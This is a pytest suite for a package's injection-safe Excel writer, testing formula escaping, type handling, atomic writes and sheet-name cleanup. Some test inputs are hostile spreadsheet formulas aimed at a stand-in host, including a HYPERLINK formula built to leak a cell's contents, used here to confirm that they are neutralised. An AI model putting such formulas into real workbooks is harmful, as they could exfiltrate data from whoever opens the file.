"""Issue 13, finding 1: dealresearch.fieldwork.xlsx, the one injection-safe workbook writer."""

from __future__ import annotations

import re
from pathlib import Path

import hostile_gen as H
import numpy as np
import openpyxl
import pandas as pd
import pytest

from dealresearch.errors import InputFileError, ParameterError
from dealresearch.fieldwork import xlsx

PACKAGE = Path(xlsx.__file__).resolve().parents[1]  # the whole dealresearch package


@pytest.mark.parametrize("payload", H.FORMULAS)
def test_safe_text_neutralises_every_formula_start(payload):
    assert xlsx.safe_text(payload) == "'" + payload
    assert xlsx.safe_text("普通文字 =1") == "普通文字 =1"


def test_safe_text_cuts_at_excel_limit_and_says_so():
    out = xlsx.safe_text("字" * 40_000)
    assert len(out) == xlsx.MAX_CELL_CHARS and out.endswith(xlsx.TRUNCATED)


def test_safe_frame_covers_str_categorical_object_headers_and_index():
    frame = pd.DataFrame(
        {
            "=头": pd.Series(["=1+1", "ok", None], dtype="str"),
            "cat": pd.Series(["@x", "ok", "@x"], dtype="category"),
            "obj": pd.Series(["-5", 3, None], dtype=object),
            "num": [-1.0, 2.0, np.nan],
        }
    ).set_axis(pd.Index(["+i", "j", "k"]))
    out = xlsx.safe_frame(frame)
    assert list(out.columns) == ["'=头", "cat", "obj", "num"]
    assert out["'=头"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["'=头"].iloc[2])
    assert isinstance(out["cat"].dtype, pd.CategoricalDtype) and out["cat"].tolist() == ["'@x", "ok", "'@x"]
    assert out["obj"].tolist()[:2] == ["'-5", 3]  # a number stays a number
    assert out["num"].iloc[0] == -1.0 and list(out.index) == ["'+i", "j", "k"]
    assert frame["=头"].iloc[0] == "=1+1"  # the caller's frame is untouched


def _cells(path: Path) -> dict[str, tuple[object, str]]:
    ws = openpyxl.load_workbook(path).active
    return {
        c.coordinate: (c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None
    }


def test_write_types_every_value_and_never_a_formula(tmp_path):
    path = tmp_path / "cells.xlsx"
    values = [
        '=HYPERLINK("http://evil.example")',
        np.int64(7),
        np.float64(2.5),
        np.bool_(True),
        pd.NA,
        pd.NaT,
        float("nan"),
        float("-inf"),
        pd.Timestamp("2026-09-30 10:00", tz="Asia/Shanghai"),
        np.datetime64("2026-01-02"),
        "http://evil.example/",
    ]
    with xlsx.workbook(path) as xw:
        ws = xw.book.add_worksheet("表")
        xlsx.write_row(ws, 0, 0, values)
    cells = _cells(path)
    assert cells["A1"] == ('\'=HYPERLINK("http://evil.example")', "s")
    assert cells["B1"] == (7, "n") and cells["C1"] == (2.5, "n") and cells["D1"] == (True, "b")
    assert "E1" not in cells and "F1" not in cells and "G1" not in cells  # missing → blank
    assert cells["H1"] == ("'-∞", "s")
    assert cells["I1"][0].year == 2026 and cells["J1"][0].day == 2
    assert cells["K1"] == ("http://evil.example/", "s")  # a URL stays text, not a link
    assert H.live_formula_cells(path) == []


def test_workbook_refuses_missing_folder_and_other_suffix_without_creating_anything(tmp_path):
    with pytest.raises(ParameterError, match="输出文件夹不存在"):
        with xlsx.workbook(tmp_path / "无此目录" / "a.xlsx"):
            pass
    with pytest.raises(ParameterError, match=r"\.xlsx"):
        with xlsx.workbook(tmp_path / "p.txt"):
            pass
    assert list(tmp_path.iterdir()) == []


def test_a_failed_export_leaves_the_previous_workbook(tmp_path):
    path = tmp_path / "a.xlsx"
    with xlsx.workbook(path) as xw:
        xlsx.write_frame(xw, pd.DataFrame({"x": [1]}), "表", index=False)
    before = path.read_bytes()
    with pytest.raises(RuntimeError):
        with xlsx.workbook(path) as xw:
            xlsx.write_frame(xw, pd.DataFrame({"x": [2]}), "表", index=False)
            raise RuntimeError("中途失败")
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_read_values_takes_values_never_formulas(tmp_path):
    path = tmp_path / "returned.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["编号", "结果"])
    ws.append(["A1", '=HYPERLINK("http://evil.example/?d="&A2)'])  # a formula (no cached value)
    ws.append(["A2", None])
    ws.cell(3, 2).value, ws.cell(3, 2).data_type = "@SUM(A1)", "s"  # typed text
    book.save(path)
    got = xlsx.read_values(path)
    values = got["结果"].tolist()
    assert not any(isinstance(v, str) and "HYPERLINK" in v for v in values)
    assert values[1] == "'@SUM(A1)"
    with pytest.raises(InputFileError, match="找不到文件"):
        xlsx.read_values(tmp_path / "none.xlsx")


def test_sheet_names_are_legal():
    assert xlsx.safe_sheet_name("'a/b:c*?[d]'" + "x" * 40) == "a_b_c___d_'" + "x" * 20
    assert xlsx.safe_sheet_name("x" * 30 + "'y") == "x" * 30 and xlsx.safe_sheet_name("''") == "Sheet"


def test_every_workbook_the_package_writes_goes_through_xlsx():
    """A new export cannot forget the safe writer: nothing else opens a workbook writer."""
    pattern = re.compile(r"ExcelWriter\(|xlsxwriter\.Workbook\(|\.to_excel\(|openpyxl\.Workbook\(")
    offenders = [
        str(p.relative_to(PACKAGE))
        for p in PACKAGE.rglob("*.py")
        if p.name != "xlsx.py" and "synth" not in p.parts and pattern.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []
